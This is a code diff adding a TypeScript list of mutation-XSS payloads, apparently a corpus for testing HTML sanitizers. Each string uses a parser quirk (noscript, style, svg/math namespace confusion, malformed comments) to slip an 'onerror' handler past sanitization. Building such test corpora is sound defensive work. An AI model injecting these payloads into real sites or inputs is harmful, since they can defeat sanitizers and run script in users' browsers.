@@ -1,0 +1,30 @@
+import { family } from "./payload";
+
+/** Markup that says something else once it has been parsed and written out again. */
+export const MUTATIONS = family("mutation", "mutation", [
+  "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
+  "<style><img title='</style><img src=x onerror=pwn()>'>",
+  "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
+  "<textarea><p title='</textarea><img src=x onerror=pwn()>'>",
+  "<title><p title='</title><img src=x onerror=pwn()>'>",
+  "<noembed><p title='</noembed><img src=x onerror=pwn()>'>",
+  "<noframes><p title='</noframes><img src=x onerror=pwn()>'>",
+  "<iframe><p title='</iframe><img src=x onerror=pwn()>'>",
+  "<svg></p><style><a id='</style><img src=x onerror=pwn()>'>",
+  "<svg><style><img src=x onerror=pwn()></style></svg>",
+  "<math><style><img src=x onerror=pwn()></style></math>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
+  "<svg><p><style><g title='</style><img src=x onerror=pwn()>'>",
+  "<table><td><svg></td><img src=x onerror=pwn()>",
+  "<select><option><img></select><img src=x onerror=pwn()>",
+  "<img alt='``onerror=pwn()' src=x><img src=x onerror=pwn()>",
+  "<p><table><p><img src=x onerror=pwn()></table>",
+  "<listing>&lt;img src=x&gt;</listing><img src=x onerror=pwn()>",
+  "<!--><img src=x onerror=pwn()>-->",
+  "<!---><img src=x onerror=pwn()>",
+  "<!--a--!><img src=x onerror=pwn()>",
+  "<?php ?><img src=x onerror=pwn()>",
+  "<!x><img src=x onerror=pwn()>",
+  "</x><img src=x onerror=pwn()>",
+  "<a><b></a><img src=x onerror=pwn()></b>",
+]);
